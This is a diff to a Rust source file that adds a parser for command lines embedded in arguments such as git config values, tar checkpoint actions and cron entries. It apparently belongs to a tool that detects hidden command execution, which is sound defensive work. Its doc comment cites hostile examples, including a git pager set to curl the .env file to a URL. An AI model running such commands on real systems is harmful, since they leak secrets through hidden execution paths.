@@ -277,6 +277,36 @@ pub fn hosts_in_text_it_runs(commands: &[Vec<String>], text: &str) -> (Vec<Strin
     (hosts, proxy)
 }
 
+/// The command lines inside the words of a line that hands text to another program:
+/// `core.pager=curl -d @.env URL` (after the key), `--checkpoint-action=exec=curl ...`, a cron
+/// entry (`* * * * * curl ...`, its schedule dropped). Only words with a space in them.
+pub fn command_texts_in(commands: &[Vec<String>]) -> Vec<String> {
+    let mut out = Vec::new();
+    for word in commands.iter().flat_map(|argv| argv.iter().skip(1)) {
+        if !word.contains(' ') {
+            continue;
+        }
+        let mut text = word.as_str();
+        // `key=value=command args`: peel `name=` prefixes that hold no space.
+        while let Some((key, rest)) = text.split_once('=') {
+            if key.contains(' ') || key.is_empty() {
+                break;
+            }
+            text = rest;
+        }
+        let text = text.trim_start_matches('!');
+        let fields: Vec<&str> = text.split_whitespace().collect();
+        let schedule = fields.len() > 5
+            && fields[..5].iter().all(|f| f.chars().all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | ',' | '-')));
+        let command = if schedule { fields[5..].join(" ") } else { text.to_owned() };
+        if !out.contains(&command) {
+            out.push(command);
+        }
+    }
+    out.truncate(16);
+    out
+}
+
 /// Taint path of git configuration that runs a command (a filter driver, `core.fsmonitor`, a
 /// pager or alias): every later git command may run it.
 pub const GIT_CONFIG_CODE: &str = "<git configuration>";
